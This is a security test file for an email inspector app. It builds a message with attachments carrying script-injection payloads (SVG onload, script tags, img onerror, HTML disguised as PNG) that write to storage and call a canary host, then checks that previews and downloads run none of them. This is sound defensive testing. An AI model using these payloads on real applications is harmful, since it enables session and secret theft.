// A message's parts never become documents of the app's origin: every kind of part preview
// is opened in a tab of its own (as "Open image in new tab" does) and no script runs, nothing
// reads the app's storage, nothing reaches the network. Saved files are blobs typed
// application/octet-stream; previews are raster pictures or text.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { launch, openApp } from './fixtures/browser.mjs';
import { Inspector } from './fixtures/inspector.mjs';
import { startCanary } from './fixtures/canary.mjs';

let context, page, ui, canary;
const dialogs = [];
const RASTER = /^image\/(png|jpeg|gif|webp|bmp|x-icon|avif)$/;

/** The part bodies, each trying to run script in the app's origin. */
function parts(origin) {
  const steal = (who) => `try{localStorage.setItem('pwned','${who}')}catch(e){};fetch('${origin}/${who}')`;
  const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
  return [
    ['image/svg+xml', 'evil.svg', `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20" onload="${steal('svg-onload')}"><script>${steal('svg-script')}</script><rect width="40" height="20" fill="red"/></svg>`],
    ['text/html', 'evil.html', `<html><body><script>${steal('html')}</script><img src=x onerror="${steal('html-onerror')}"></body></html>`],
    ['application/xhtml+xml', 'evil.xhtml', `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${steal('xhtml')}</script></body></html>`],
    ['text/xml', 'evil.xml', `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${steal('xml')}</x:script>`],
    ['image/png', 'not-a.png', `<html><script>${steal('fake-png')}</script></html>`],
    ['image/png', 'pixel.png', png],
    ['application/pdf', 'doc.pdf', '%PDF-1.4 not really'],
  ];
}

function message(origin) {
  const lines = ['From: Mallory <m@attacker.example>', 'To: victim@example.org', 'Subject: Parts',
    'Date: Tue, 3 Mar 2026 10:00:00 +0000', 'Message-ID: <parts@attacker.example>', 'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary=b', '', '--b', 'Content-Type: text/plain', '', 'See attached.'];
  for (const [type, name, body] of parts(origin)) {
    lines.push('--b', `Content-Type: ${type}; name="${name}"`, `Content-Disposition: attachment; filename="${name}"`,
      'Content-Transfer-Encoding: base64', '', Buffer.from(body).toString('base64'));
  }
  lines.push('--b--', '');
  return lines.join('\r\n');
}

before(async () => {
  canary = await startCanary();
  context = await launch();
  context.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss(); });
  // Every blob the app makes, with its type.
  await context.addInitScript(() => {
    window.__blobs = [];
    const make = URL.createObjectURL.bind(URL);
    URL.createObjectURL = (b) => { const u = make(b); window.__blobs.push({ url: u, type: b.type }); return u; };
  });
  ({ page } = await openApp(context));
  page.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss(); });
  // A remembered secret that a script in the app's origin could read.
  await page.evaluate(() => localStorage.setItem('secret', 'alice-password'));
  ui = new Inspector(page);
});
after(async () => {
  await context?.close();
  await canary?.close();
});

/** A freshly loaded inspector with the message of hostile parts open on its MIME tab. */
async function openParts() {
  await page.reload();
  await page.getByTestId('drop-zone').waitFor();
  await ui.drop([{ name: 'parts.eml', buffer: Buffer.from(message(canary.origin)) }]);
  await ui.waitForCount(1);
  await ui.tab('mime');
}

test('every part preview, opened in a tab of its own, runs no script and is a picture or text', async () => {
  await openParts();
  const shown = {};
  for (const [type, name] of parts(canary.origin)) {
    const row = page.getByTestId('part').filter({ hasText: name });
    const button = row.getByRole('button', { name: `Preview ${name}` });
    if (!(await button.count())) { shown[name] = 'no preview'; continue; }
    await button.click();
    const preview = page.getByTestId('preview');
    await preview.waitFor();
    await page.waitForFunction(() => !document.querySelector('[data-testid=preview]')?.textContent.includes('Drawing'), null, { timeout: 10000 });
    // Nothing in a preview can hold a document: no frame, object or embed.
    assert.equal(await preview.locator('iframe, object, embed, frame').count(), 0, name);
    const img = preview.locator('img');
    if (await img.count()) {
      const src = await img.getAttribute('src');
      assert.match(src, /^blob:/, `${name}: a picture from a blob`);
      // Open it as a tab of its own, as "Open image in new tab" does.
      const tab = await context.newPage();
      await tab.goto(src);
      const contentType = await tab.evaluate(() => document.contentType);
      assert.match(contentType, RASTER, `${name} opened as ${contentType}`);
      await tab.waitForTimeout(300);
      await tab.close();
      shown[name] = `picture ${contentType}`;
    } else if (await preview.getByTestId('preview-text').count()) {
      shown[name] = 'text';
    } else {
      shown[name] = 'not shown';
    }
    await preview.getByRole('button', { name: 'Close preview' }).click();
  }
  assert.deepEqual(shown, {
    'evil.svg': 'picture image/png',
    'evil.html': 'text',
    'evil.xhtml': 'text',
    'evil.xml': 'text',
    'not-a.png': 'not shown',
    'pixel.png': 'picture image/png',
    'doc.pdf': 'no preview',
  });
  assert.equal(await page.evaluate(() => localStorage.getItem('pwned')), null, 'no script wrote to the app\'s storage');
  assert.deepEqual(canary.hits, [], 'no script reached the network');
  assert.deepEqual(dialogs, []);
  // Every blob the app made was a raster picture.
  const blobs = await page.evaluate(() => window.__blobs);
  assert.ok(blobs.length >= 2, JSON.stringify(blobs));
  for (const b of blobs) assert.match(b.type, RASTER, JSON.stringify(b));
});

test('a saved part is a download typed application/octet-stream, whatever the part says', async () => {
  await openParts();
  const before = (await page.evaluate(() => window.__blobs)).length;
  const row = page.getByTestId('part').filter({ hasText: 'evil.svg' });
  const [download] = await Promise.all([page.waitForEvent('download'), row.getByRole('button', { name: 'Save evil.svg' }).click()]);
  assert.equal(download.suggestedFilename(), 'evil.svg');
  const made = (await page.evaluate(() => window.__blobs)).slice(before);
  assert.deepEqual(made.map((b) => b.type), ['application/octet-stream']);
  // The download's URL is revoked at once: it cannot be opened afterwards.
  const tab = await context.newPage();
  const answer = await tab.goto(made[0].url).catch((e) => e);
  assert.ok(answer instanceof Error || !answer.ok(), 'the blob URL no longer answers');
  await tab.close();
  assert.equal(await page.evaluate(() => localStorage.getItem('pwned')), null);
  assert.deepEqual(canary.hits, []);
});
